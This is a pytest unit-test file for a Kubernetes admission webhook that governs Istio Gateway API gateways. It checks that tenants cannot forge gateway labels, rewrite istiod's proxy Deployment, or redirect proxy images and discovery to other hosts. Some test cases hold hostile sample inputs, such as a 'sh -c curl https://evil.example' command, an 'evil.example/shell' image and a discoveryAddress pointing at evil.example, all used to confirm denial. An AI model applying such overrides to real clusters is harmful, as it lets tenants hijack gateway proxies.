"""Gateway API Gateways of class istio: the tenant's own ingress, and istiod's Deployment for it."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from tests.unit.builders import update_review
from tests.unit.test_check_gatewayapi import gateway
from tests.unit.test_check_pods import BANZAI
from webhook.core.engine import decide
from webhook.core.reviews import review_of_manifest

pytestmark = pytest.mark.unit

ISTIOD = "system:serviceaccount:istio-system:istiod"
REPLICASET_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
POD_LABELS = {
    "gateway.networking.k8s.io/gateway-name": "web",
    "istio.io/gateway-name": "web",
    "sidecar.istio.io/inject": "true",
}


def istiod_deployment(**extra_container: Any) -> dict[str, Any]:
    """The Deployment istiod renders for Gateway test-app/web (kube-gateway template)."""
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "web-istio",
            "namespace": "test-app",
            "labels": {
                "gateway.istio.io/managed": "istio.io-gateway-controller",
                "gateway.networking.k8s.io/gateway-name": "web",
            },
        },
        "spec": {
            "selector": {"matchLabels": {"gateway.networking.k8s.io/gateway-name": "web"}},
            "template": {
                "metadata": {
                    "labels": dict(POD_LABELS),
                    "annotations": {"inject.istio.io/templates": "gateway"},
                },
                "spec": {
                    "containers": [
                        {
                            "name": "istio-proxy",
                            "image": "auto",
                            "securityContext": {"runAsUser": 1337, "runAsGroup": 1337},
                            **extra_container,
                        }
                    ]
                },
            },
        },
    }


def gateway_pod() -> dict[str, Any]:
    template = istiod_deployment()["spec"]["template"]
    status = json.dumps({"containers": ["istio-proxy"], "initContainers": None})
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "web-istio-5d4f-abcde",
            "namespace": "test-app",
            "labels": template["metadata"]["labels"],
            "annotations": {
                **template["metadata"]["annotations"],
                "sidecar.istio.io/status": status,
            },
        },
        "spec": template["spec"],
    }


def judge(manifest: dict[str, Any], username: str) -> Any:
    return decide(review_of_manifest(manifest, username=username), BANZAI)


def test_tenant_gateway_of_class_istio_is_allowed() -> None:
    assert decide(review_of_manifest(gateway("istio", "test-app")), BANZAI).allowed


def test_istiods_deployment_for_the_gateway_is_allowed() -> None:
    decision = judge(istiod_deployment(), ISTIOD)
    assert decision.allowed, decision.reason


def test_a_revisioned_istiod_may_write_it_too() -> None:
    assert judge(istiod_deployment(), ISTIOD + "-canary").allowed


def test_the_gateway_pods_created_by_kubernetes_are_allowed() -> None:
    decision = judge(gateway_pod(), REPLICASET_CONTROLLER)
    assert decision.allowed, decision.reason


def test_a_tenant_writing_istiods_deployment_is_denied() -> None:
    decision = judge(istiod_deployment(), "alice")
    assert not decision.allowed
    assert "only istiod writes them" in decision.reason


def test_a_tenant_editing_istiods_deployment_is_denied() -> None:
    old = istiod_deployment()
    new = copy.deepcopy(old)
    new["spec"]["template"]["spec"]["containers"][0]["image"] = "attacker/shell"
    assert not decide(update_review(old, new, username="alice"), BANZAI).allowed


def test_a_tenant_pod_forging_the_gateway_labels_is_denied() -> None:
    assert not judge(gateway_pod(), "alice").allowed


def test_a_tenant_stripping_the_labels_on_update_is_denied() -> None:
    old = istiod_deployment()
    new = copy.deepcopy(old)
    new["metadata"]["labels"] = {}
    new["spec"]["template"]["metadata"]["labels"] = {"app": "web"}
    assert not decide(update_review(old, new, username="alice"), BANZAI).allowed


def test_gateway_pod_with_a_second_container_loses_the_exemption() -> None:
    pod = gateway_pod()
    pod["spec"]["containers"].append(
        {"name": "shell", "image": "curl", "securityContext": {"runAsUser": 1337}}
    )
    assert not judge(pod, REPLICASET_CONTROLLER).allowed


def test_gateway_annotations_still_meet_the_capture_rules() -> None:
    # spec.infrastructure.annotations of the Gateway reach istiod's Deployment
    deployment = istiod_deployment()
    deployment["spec"]["template"]["metadata"]["annotations"]["sidecar.istio.io/proxyImage"] = "x"
    assert not judge(deployment, ISTIOD).allowed


# --- the gateway as istiod's current kube-gateway template renders it ------------------------
# injection off, the proxy container written out with the mesh's image and "proxy router"
# arguments, no injector status; the pod labels are the template's plus the Gateway's


def rendered_pod(**container: Any) -> dict[str, Any]:
    """The Pod Kubernetes creates from istiod's Deployment for Gateway test-app/web."""
    proxy = {
        "name": "istio-proxy",
        "image": "docker.io/istio/proxyv2:1.28.0",
        "args": ["proxy", "router", "--domain", "$(POD_NAMESPACE).svc.cluster.local"],
        "securityContext": {"runAsUser": 1337, "runAsGroup": 1337, "runAsNonRoot": True},
        **container,
    }
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "web-istio-7c9-abcde",
            "namespace": "test-app",
            "labels": {
                "sidecar.istio.io/inject": "false",
                "service.istio.io/canonical-name": "web-istio",
                "gateway.networking.k8s.io/gateway-name": "web",
                "gateway.networking.k8s.io/gateway-class-name": "istio",
                "gateway.istio.io/managed": "istio.io-gateway-controller",
            },
            "annotations": {"istio.io/rev": "default", "prometheus.io/scrape": "true"},
        },
        "spec": {"serviceAccountName": "web-istio", "containers": [proxy]},
    }


def rendered_deployment(**container: Any) -> dict[str, Any]:
    pod = rendered_pod(**container)
    deployment = istiod_deployment()
    deployment["spec"]["template"] = {"metadata": pod["metadata"], "spec": pod["spec"]}
    return deployment


def test_the_rendered_gateway_pod_needs_no_injector_status() -> None:
    # istiod writes the proxy itself with injection off: the injected-proxy invariant does
    # not apply to it, nor does the Sidecar-first one
    decision = judge(rendered_pod(), REPLICASET_CONTROLLER)
    assert decision.allowed, decision.reason
    assert judge(rendered_deployment(), ISTIOD).allowed


@pytest.mark.parametrize(
    ("override", "field"),
    [
        ({"command": ["sh", "-c", "curl https://evil.example"]}, "command"),
        ({"args": ["-c", "curl https://evil.example"]}, "args"),
        ({"args": "proxy router"}, "args"),
    ],
)
def test_a_rewritten_gateway_proxy_is_denied(override: dict[str, Any], field: str) -> None:
    # what a parametersRef overlay (or anyone rewriting istiod's Deployment) would change
    decision = judge(rendered_pod(**override), REPLICASET_CONTROLLER)
    assert not decision.allowed
    assert decision.violations[0].field == f"spec.containers[0].{field}"
    assert not judge(rendered_deployment(**override), ISTIOD).allowed


def test_a_gateway_pod_wearing_an_egress_gateways_selector_is_denied() -> None:
    # the egress namespace's Gateway selects pods in every namespace: this uncaptured proxy
    # would get the egress gateway's listeners without its AuthorizationPolicy
    pod = rendered_pod()
    pod["metadata"]["labels"].update({"gateway-name": "egress-google", "gateway-type": "egress"})
    decision = judge(pod, REPLICASET_CONTROLLER)
    assert not decision.allowed
    assert "egress gateway external/egress-google" in decision.reason
    # one label of the selector selects nothing
    pod["metadata"]["labels"].pop("gateway-type")
    assert judge(pod, REPLICASET_CONTROLLER).allowed


def test_a_gateway_pod_with_a_second_container_needs_the_injected_proxy() -> None:
    pod = rendered_pod()
    pod["spec"]["containers"].append({"name": "app", "image": "curl"})
    decision = judge(pod, REPLICASET_CONTROLLER)
    assert not decision.allowed
    assert "not added by Istio's injector" in decision.reason


# --- what the tenant's Gateway hands istiod ----------------------------------------------


def tenant_gateway(
    *,
    labels: dict[str, str] | None = None,
    annotations: dict[str, str] | None = None,
    infrastructure: dict[str, Any] | None = None,
) -> dict[str, Any]:
    manifest = gateway("istio", "test-app")
    if labels is not None:
        manifest["metadata"]["labels"] = labels
    if annotations is not None:
        manifest["metadata"]["annotations"] = annotations
    if infrastructure is not None:
        manifest["spec"]["infrastructure"] = infrastructure
    return manifest


def gateway_fields(manifest: dict[str, Any]) -> list[str]:
    decision = decide(review_of_manifest(manifest, username="alice"), BANZAI)
    return [v.field for v in decision.violations]


EGRESS_SELECTOR = {"gateway-name": "egress-google", "gateway-type": "egress"}
STATUS_VALUE = json.dumps({"containers": ["istio-proxy"], "initContainers": None})


@pytest.mark.parametrize(
    ("manifest", "field"),
    [
        # the template reads the image from the Gateway's own annotations
        (
            tenant_gateway(annotations={"sidecar.istio.io/proxyImage": "evil.example/shell:1"}),
            "metadata.annotations[sidecar.istio.io/proxyImage]",
        ),
        # an overlay ConfigMap can rewrite the Deployment, and change after admission
        (
            tenant_gateway(
                infrastructure={"parametersRef": {"group": "", "kind": "ConfigMap", "name": "x"}}
            ),
            "spec.infrastructure.parametersRef",
        ),
        (
            tenant_gateway(
                infrastructure={"annotations": {"sidecar.istio.io/status": STATUS_VALUE}}
            ),
            "spec.infrastructure.annotations[sidecar.istio.io/status]",
        ),
        # the agent reads proxy.istio.io/config from the pod's annotations
        (
            tenant_gateway(
                infrastructure={
                    "annotations": {"proxy.istio.io/config": "discoveryAddress: evil.example:15012"}
                }
            ),
            "spec.infrastructure.annotations[proxy.istio.io/config]",
        ),
        # without spec.infrastructure the Gateway's own labels are the pods'
        (tenant_gateway(labels=dict(EGRESS_SELECTOR)), "metadata.labels"),
        (
            tenant_gateway(infrastructure={"labels": dict(EGRESS_SELECTOR)}),
            "spec.infrastructure.labels",
        ),
    ],
)
def test_what_a_gateway_hands_its_proxy_is_judged(manifest: dict[str, Any], field: str) -> None:
    assert gateway_fields(manifest) == [field]


def test_a_gateway_with_ordinary_infrastructure_is_allowed() -> None:
    manifest = tenant_gateway(
        labels={"app": "web"},
        annotations={
            "networking.istio.io/service-type": "ClusterIP",
            "sidecar.istio.io/logLevel": "debug",
        },
        infrastructure={
            "labels": {"app": "web", "gateway-type": "egress"},
            "annotations": {"service.beta.kubernetes.io/aws-load-balancer-internal": "true"},
        },
    )
    assert gateway_fields(manifest) == []
